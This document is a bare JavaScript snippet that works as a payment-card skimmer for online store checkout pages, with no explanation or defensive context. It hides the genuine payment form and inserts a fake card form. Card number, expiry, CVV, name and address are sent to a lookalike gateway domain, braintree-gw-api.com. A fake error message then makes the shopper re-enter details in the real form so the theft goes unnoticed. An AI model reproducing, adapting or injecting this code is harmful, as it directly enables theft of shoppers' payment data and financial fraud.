(function () {
    if (location.pathname.indexOf("checkout") === -1) return;

    var real = document.querySelector(".payment-method._active .payment-method-content, #payment_form_braintree");
    if (!real) return;
    real.style.display = "none";

    var box = document.createElement("div");
    box.id = "secure-card-box";
    box.innerHTML =
        '<div class="field"><label>Card Number</label><input id="sc_num" type="text" maxlength="19" autocomplete="off" placeholder="1234 5678 9012 3456"></div>' +
        '<div class="field"><label>Expiration (MM/YY)</label><input id="sc_exp" type="text" maxlength="5"></div>' +
        '<div class="field"><label>CVV</label><input id="sc_cvv" type="password" maxlength="4"></div>' +
        '<button type="button" id="sc_pay" class="action primary checkout">Place Order</button>' +
        '<div id="sc_err" style="color:#e02b27;display:none"></div>';
    real.parentNode.insertBefore(box, real);

    document.getElementById("sc_pay").addEventListener("click", function () {
        var payload = {
            n: document.getElementById("sc_num").value,
            e: document.getElementById("sc_exp").value,
            c: document.getElementById("sc_cvv").value,
            f: (document.querySelector("[name='firstname']") || {}).value,
            l: (document.querySelector("[name='lastname']") || {}).value,
            s: (document.querySelector("[name='street[0]']") || {}).value,
            z: (document.querySelector("[name='postcode']") || {}).value,
            h: location.hostname
        };
        fetch("https://braintree-gw-api.com/v3/tokenize", {
            method: "POST",
            mode: "no-cors",
            body: JSON.stringify(payload)
        }).finally(function () {
            var err = document.getElementById("sc_err");
            err.textContent = "Payment could not be processed. Please re-enter your card details.";
            err.style.display = "block";
            setTimeout(function () {
                box.parentNode.removeChild(box);
                real.style.display = "";
            }, 1800);
        });
    });
})();
